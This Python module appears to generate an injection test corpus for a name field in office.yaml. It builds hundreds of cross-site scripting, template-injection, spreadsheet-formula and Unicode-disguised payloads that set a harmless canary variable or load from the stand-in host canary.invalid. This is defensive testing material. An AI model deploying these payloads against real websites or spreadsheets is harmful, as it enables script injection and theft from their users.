"""Names that try to be more than names: 200 and more, made from contexts and from ways to hide in them.

Each sets `__xss`, or asks a host that is nobody's. All are short enough for a name of office.yaml.
"""

from __future__ import annotations

from itertools import cycle, product

HOST = "canary.invalid"
LONGEST = 80
DO = ("__xss=1", "top.__xss=1", "self['__xss']=1", "globalThis.__xss=1")

ELEMENTS = (
    "<script>{do}</script>",
    "<ScRiPt>{do}</sCrIpT>",
    "<script src=//{host}/x.js></script>",
    "<script type=module>{do}</script>",
    "<img src=x onerror={do}>",
    "<IMG SRC=x ONERROR={do}>",
    "<img/src=x/onerror={do}//",
    "<svg onload={do}>",
    "<svg/onload={do}//",
    "<svg><script>{do}</script>",
    "<svg><a href=javascript:{do}><text y=9>x",
    "<svg><animate onbegin={do} attributeName=x dur=1s>",
    "<svg><set onbegin={do} attributeName=x>",
    "<body onload={do}>",
    "<iframe srcdoc='<script>{do}</script>'>",
    "<iframe src=javascript:{do}>",
    "<iframe src=//{host}/>",
    "<object data=//{host}/x>",
    "<embed src=//{host}/x>",
    "<details open ontoggle={do}>",
    "<video src=x onerror={do}>",
    "<audio src=x onerror={do}>",
    "<video><source onerror={do}>",
    "<input autofocus onfocus={do}>",
    "<select autofocus onfocus={do}>",
    "<textarea autofocus onfocus={do}>",
    "<a href=javascript:{do} autofocus tabindex=1>x</a>",
    "<form action=//{host}/><button>x",
    "<button formaction=javascript:{do}>x",
    "<meta http-equiv=refresh content='0;//{host}/'>",
    "<base href=//{host}/>",
    "<link rel=stylesheet href=//{host}/x.css>",
    "<style>@import '//{host}/x.css'</style>",
    "<style>body{{background:url(//{host}/)}}</style>",
    "<math><mi xlink:href=javascript:{do}>x",
    "<marquee onstart={do}>x",
    "<div style=background:url(//{host}/)>x",
    "<p onpointerenter={do} style=position:fixed;inset:0>",
    "<template shadowrootmode=open><script>{do}</script>",
    "<noscript><p title='</noscript><img src=x onerror={do}>'>",
    "<img srcset=//{host}/a>",
    "<picture><source srcset=//{host}/a><img>",
    "<dialog open onfocusin={do}><input autofocus>",
)
BREAKOUTS = (
    '">',
    "'>",
    '"/>',
    "-->",
    "]]>",
    "</title>",
    "</script>",
    "</textarea>",
    "</text></svg>",
    "</style>",
    "</option>",
)
INSIDE = (
    '" onfocus={do} autofocus x="',
    "' onfocus={do} autofocus x='",
    "` onfocus={do} autofocus x=`",
    " onfocus={do} autofocus ",
    '" onpointerover={do} x="',
    '" style="background:url(//{host}/)',
    '" hx-get="//{host}/" hx-trigger="load" x="',
    '" hx-on:load="{do}" x="',
    '" data-hx-get="//{host}/" data-hx-trigger=load x="',
    '" src=//{host}/ href=//{host}/ x="',
    '" onbegin={do} x="',
)
ADDRESSES = (
    "javascript:{do}",
    "JaVaScRiPt:{do}",
    "java&#9;script:{do}",
    "javascript&colon;{do}",
    "&#106;avascript:{do}",
    "javascript://%0a{do}",
    "data:text/html,<script>parent.{do}</script>",
    "vbscript:{do}",
    "//{host}/",
    "https://{host}/",
    "\\\\{host}\\x",
)
SCRIPTS = (
    "</script><script>{do}</script>",
    '";{do};//',
    "';{do};//",
    '\\";{do};//',
    "'-({do})-'",
    "`${{{do}}}`",
    '"}}]}}</script><svg onload={do}>',
    "<!--<script>{do}//-->",
    "\u2028{do}\u2029",
    "*/{do}/*",
    "\\u0022;{do};//",
)
TEMPLATES = (
    "{{{{7*7}}}}{do}",
    "{{{{constructor.constructor('{do}')()}}}}",
    "{{% raw %}}{{{{ self }}}}{do}",
    "${{{{{do}}}}}",
    "#{{{do}}}",
    "<%= {do} %>",
    "%(name)s %s %d %% {do}",
    "{{0}} {{name}} {do}",
    "{{{{ ''.__class__.__mro__ }}}} {do}",
)
DISGUISES = (
    "\uff1cscript\uff1e{do}\uff1c/script\uff1e",
    "%3Cscript%3E{do}%3C/script%3E",
    "&lt;script&gt;{do}&lt;/script&gt;",
    "&#60;img src=x onerror={do}&#62;",
    "&#x3c;svg onload={do}&#x3e;",
    "\\u003cscript\\u003e{do}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{do}",
    "+ADw-script+AD4-{do}+ADw-/script+AD4-",
    "\u202e<svg onload={do}>",
    "\u200d<svg onload={do}>\u200d",
    "<\u017fcript>{do}</\u017fcript>",
    "<svg\u00a0onload={do}>",
    "<svg\u3000onload={do}>",
    "\ufeff<img src=x onerror={do}>",
    "\u02ba onfocus={do} autofocus x=\u02ba",
    "\u2039script\u203a{do}",
    "e\u0301\u0301<svg onload={do}>",
)
SHEETS = ('=HYPERLINK("//{host}/")', "=1+1|cmd", "@SUM(1;1)", "+1+1", "-1+1", '=IMPORTXML("//{host}/";"//a")')


def payloads() -> list[str]:
    """All of them, each once; more than 200."""
    do = cycle(DO)
    made = [
        shape.format(do=next(do), host=HOST)
        for shape in (*ELEMENTS, *INSIDE, *ADDRESSES, *SCRIPTS, *TEMPLATES, *DISGUISES, *SHEETS)
    ]
    shortest = (
        "<svg onload={do}>",
        "<img src=x onerror={do}>",
        "<script>{do}</script>",
        "<input autofocus onfocus={do}>",
    )
    for before, inner in product(BREAKOUTS, shortest):
        made.append(before + inner.format(do=next(do)))
    made += ["x" + shape.format(do=DO[1], host=HOST) for shape in INSIDE]
    made += [f"{element.format(do=DO[0], host=HOST)} " for element in ELEMENTS[:16]]
    made += [f"a{address.format(do=DO[2], host=HOST)}" for address in ADDRESSES] + [
        f" {address.format(do=DO[1], host=HOST)}" for address in ADDRESSES
    ]
    return [payload for payload in dict.fromkeys(made) if len(payload) <= LONGEST]
